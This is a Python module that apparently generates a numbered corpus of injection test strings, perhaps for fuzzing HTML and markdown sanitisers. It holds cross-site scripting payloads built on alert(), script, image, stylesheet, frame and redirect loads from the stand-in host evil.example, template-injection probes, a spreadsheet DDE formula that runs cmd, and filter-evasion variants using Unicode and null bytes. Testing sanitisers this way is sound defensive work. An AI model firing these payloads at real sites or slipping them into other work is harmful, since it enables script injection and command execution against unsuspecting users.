"""A hundred strings that do something wherever they are taken for more than words.

Each would say its number in a window of its own, or ask for something at ``evil.example``.
"""

from __future__ import annotations

from itertools import cycle, islice

_SHAPES = (
    "<script>alert({n})</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror=alert({n})>",
    "<img src=//evil.example/{n}.png>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    '"><script>alert({n})</script>',
    "'><img src=//evil.example/{n} onerror=alert({n})>",
    '" autofocus onfocus="alert({n})" x="',
    "' autofocus onfocus='alert({n})' x='",
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</script><script>alert({n})</script>",
    "</style><script>alert({n})</script>",
    "--><script>alert({n})</script><!--",
    "]]><script>alert({n})</script><![CDATA[",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<object data=//evil.example/{n}></object>",
    "<embed src=//evil.example/{n}.swf>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<div style=background:url(//evil.example/{n})>seen</div>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<form action=//evil.example/{n}><button autofocus>go</button></form>",
    "<a href=javascript:alert({n})>open</a>",
    "[open](javascript:alert({n}))",
    "![seen](//evil.example/{n}.png)",
    "![seen](https://evil.example/{n}.png)",
    "<https://evil.example/{n}>",
    "<video autoplay src=//evil.example/{n}.mp4 onerror=alert({n})></video>",
    "<audio src=//evil.example/{n}.ogg autoplay>",
    "<source srcset=//evil.example/{n}.webp>",
    "<img srcset='//evil.example/{n}.png 1x' src=x>",
    "<details open ontoggle=alert({n})>open</details>",
    "<marquee onstart=alert({n})>go</marquee>",
    "<body onload=alert({n})>",
    "<math><mi xlink:href=javascript:alert({n})>x</mi></math>",
    "<template><script>alert({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'></noscript>",
    "<table background=//evil.example/{n}><tr><td>x</table>",
    "<input type=image src=//evil.example/{n} onerror=alert({n})>",
    "<keygen autofocus onfocus=alert({n})>",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;img src=x onerror=alert({n})&#62;",
    "{{{{ 7 * {n} }}}} {{% for x in () %}}",
    "{{{{ config.__class__ }}}}<script>alert({n})</script>",
    "${{alert({n})}} `${{alert({n})}}`",
    "\u202e<script>alert({n})</script>\u2066",
    "\ufeff\u200b<\u017fcript>alert({n})</\u017fcript>",
    "<scr\u0000ipt>alert({n})</scr\u0000ipt>",
    "<img/src=x/onerror=alert({n})//",
    "javascript:alert({n})//",
    "data:text/html,<script>alert({n})</script>",
    "=cmd|'/c calc'!A{n}<script>alert({n})</script>",
)


def payloads(count: int = 100) -> list[str]:
    """So many, each with its own number."""
    shapes = islice(cycle(_SHAPES), count)
    return [shape.format(n=number) for number, shape in enumerate(shapes, 1)]
